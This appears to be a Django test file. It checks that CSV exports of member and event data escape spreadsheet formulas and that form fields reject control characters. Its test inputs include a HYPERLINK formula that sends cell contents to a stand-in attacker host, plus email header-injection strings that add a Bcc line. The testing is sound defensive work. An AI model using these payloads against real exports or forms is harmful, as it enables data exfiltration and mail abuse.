"""What people type cannot turn into a spreadsheet formula in an editor's export,
nor carry line breaks and other control characters into one-line fields."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.core import mail
from django.urls import reverse

from events.models import EventIndexPage, Registration
from events.registration import register
from members.models import Profile
from tests.events.test_events import make_event
from tests.factories import UserFactory, english
from tests.members.conftest import make_person
from tests.members.test_joining import SIGNUP
from tests.resources.test_contributions import form_data

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\tcmd",
    "\r=1+1",
]


@pytest.fixture
def editor(db):
    return UserFactory(
        email="exporting.editor@example.org", groups=[Group.objects.get(name="Editors")]
    )


def exported_rows(client, url):
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def cells_from(rows, text):
    """Every exported cell that holds `text` (possibly behind an escape)."""
    return [cell for row in rows for cell in row if text.strip() in cell]


def assert_inert(cells, typed):
    assert cells, f"{typed!r} is not in the export"
    for cell in cells:
        assert cell[0] not in "=+-@\t\r", f"{cell!r} would run as a formula"
        assert cell.lstrip("'") == typed


@pytest.mark.parametrize("typed", FORMULAS)
def test_membership_applications_export_has_no_live_formulas(client, editor, typed):
    make_person(
        "formula@example.org",
        status=Profile.Status.APPLIED,
        full_name=typed,
        organisation=typed,
        role=typed,
    )
    client.force_login(editor)
    rows = exported_rows(client, reverse("members_profile:list"))
    assert_inert(cells_from(rows, typed), typed)


@pytest.mark.parametrize("typed", FORMULAS)
def test_event_registrations_export_has_no_live_formulas(client, editor, home_page, typed):
    event = make_event(english(EventIndexPage).get(slug="events"), "formula-event")
    person = make_person("formula.guest@example.org", full_name=typed)
    register(event, person, access_needs=typed)
    assert Registration.objects.filter(user=person).exists()
    client.force_login(editor)
    rows = exported_rows(client, reverse("event_registrations:index"))
    assert_inert(cells_from(rows, typed), typed)


def test_ordinary_values_and_numbers_export_unchanged(client, editor):
    make_person("plain@example.org", status=Profile.Status.APPLIED, full_name="Plain Person")
    client.force_login(editor)
    rows = exported_rows(client, reverse("members_profile:list"))
    assert ["Plain Person"] == [cell for row in rows for cell in row if cell == "Plain Person"]


# Control characters at the form

BROKEN = ["Eve\r\nBcc: someone@example.org", "Eve\nSmith", "Eve\x07", "Eve\x1bSmith", "Eve\u2028"]


@pytest.mark.parametrize("value", BROKEN)
@pytest.mark.parametrize("field", ["full_name", "organisation", "role"])
def test_profile_fields_refuse_control_characters(client, value, field):
    member = make_person("typing.member@example.org")
    client.force_login(member)
    data = {
        "full_name": "Ada Lovelace",
        "organisation": "Analytical Society",
        "organisation_type": "academic",
        "role": "Researcher",
        "region": "london",
        field: value,
    }
    response = client.post(reverse("members:account"), data)
    assert response.status_code == 400
    assert "line breaks or other control characters" in response.content.decode()
    member.refresh_from_db()
    assert member.full_name == "typing.member"


def test_sign_up_refuses_a_name_with_a_line_break(client):
    response = client.post(
        reverse("account_signup"), {**SIGNUP, "full_name": "Nia\r\nBcc: x@example.org"}
    )
    assert response.status_code == 200  # allauth shows the form again
    assert "line breaks or other control characters" in response.content.decode()
    assert mail.outbox == []


def test_resource_title_refuses_control_characters(client):
    client.force_login(make_person("titling.member@example.org"))
    response = client.post("/resources/submit/", form_data(title="Toolkit\r\nBcc: x"))
    assert response.status_code == 400
    assert "line breaks or other control characters" in response.content.decode()


def test_text_boxes_keep_line_breaks_but_refuse_other_control_characters(client, home_page):
    event = make_event(english(EventIndexPage).get(slug="events"), "access-event")
    client.force_login(make_person("needs@example.org"))
    refused = client.post(event.url + "register/", {"access_needs": "Step-free\x1b access"})
    assert refused.status_code == 400
    assert "control characters" in refused.content.decode()
    accepted = client.post(event.url + "register/", {"access_needs": "Step-free access\r\nA chair"})
    assert accepted.status_code == 302
    assert Registration.objects.get(event=event).access_needs == "Step-free access\r\nA chair"


def test_wagtails_own_reports_export_member_titles_as_text(client, editor):
    """A member's contribution title reaches the Workflows report and site history."""
    typed = '=HYPERLINK("https://evil.example/","Open")'
    client.force_login(make_person("titler@example.org"))
    assert client.post("/resources/submit/", form_data(title=typed)).status_code == 302
    client.force_login(editor)
    for report in ["wagtailadmin_reports:workflow", "wagtailadmin_reports:site_history"]:
        rows = exported_rows(client, reverse(report))
        assert_inert(cells_from(rows, typed), typed)
